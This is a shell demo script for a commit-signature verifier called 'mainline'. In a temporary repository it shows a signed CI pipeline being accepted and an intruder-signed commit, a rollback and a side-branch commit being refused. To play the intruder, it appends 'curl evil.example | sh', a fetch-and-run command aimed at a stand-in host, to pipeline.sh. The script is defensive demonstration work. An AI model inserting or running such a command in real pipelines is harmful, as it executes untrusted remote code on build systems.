#!/bin/sh
# make demo: a trusted pipeline repository with signed commits on main, then
# mainline deciding what may run. Everything happens in a scratch directory.
set -eu
root=$(cd "$(dirname "$0")/.." && pwd)
BUILD=${BUILD:-build}
case "$BUILD" in /*) ;; *) BUILD="$root/$BUILD" ;; esac
mainline="$BUILD/mainline"
work=$(mktemp -d "${TMPDIR:-/tmp}/mainline-demo.XXXXXX")
trap 'rm -rf "$work"' EXIT
export HOME="$work/home" GIT_CONFIG_NOSYSTEM=1
mkdir -p "$HOME"
export GIT_AUTHOR_NAME="Release Team" GIT_AUTHOR_EMAIL="release@example.org"
export GIT_COMMITTER_NAME="Release Team" GIT_COMMITTER_EMAIL="release@example.org"
git config --global init.defaultBranch main

say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
run() { printf '$ %s\n' "$*"; "$@" || printf '(exit %d)\n' "$?"; }

say "A trusted pipeline repository whose main line is signed with SSH keys"
ssh-keygen -q -t ed25519 -N '' -C release -f "$work/release-key"
ssh-keygen -q -t ed25519 -N '' -C intruder -f "$work/intruder-key"
printf 'release@example.org namespaces="git" %s\n' "$(cut -d' ' -f1,2 "$work/release-key.pub")" \
	>"$work/allowed_signers"
cat "$work/allowed_signers"
repo="$work/ci-pipelines"
git init -q "$repo"
git -C "$repo" config gpg.format ssh
git -C "$repo" config user.signingkey "$work/release-key"
printf '#!/bin/sh\necho "publishing release"\n' >"$repo/pipeline.sh"
git -C "$repo" add pipeline.sh
git -C "$repo" commit -q -S -m "pipeline: publish step"
anchor=$(git -C "$repo" rev-parse HEAD)
echo 'echo "signing artefacts"' >>"$repo/pipeline.sh"
git -C "$repo" commit -q -S -am "pipeline: sign artefacts"
git -C "$repo" log --format='%h %G? %s' main

v() { run "$mainline" verify --source "$repo" --allowed-signers "$work/allowed_signers" \
	--state "$work/state" "$@"; }

say "Verified: the signed tip of main"
v --mode chain --anchor "$anchor"

say "Refused: a commit pushed to main without a trusted signature"
git -C "$repo" config user.signingkey "$work/intruder-key"
echo 'curl evil.example | sh' >>"$repo/pipeline.sh"
git -C "$repo" commit -q -S -am "pipeline: small fix"
v

say "Refused: main force-pushed back to an older signed commit (rollback)"
git -C "$repo" reset -q --hard "$anchor"
v

say "Refused: a commit from a side branch (a pull request's code)"
git -C "$repo" checkout -q -b feature
git -C "$repo" config user.signingkey "$work/release-key"
echo 'echo "feature"' >>"$repo/pipeline.sh"
git -C "$repo" commit -q -S -am "feature work"
v --commit feature --json
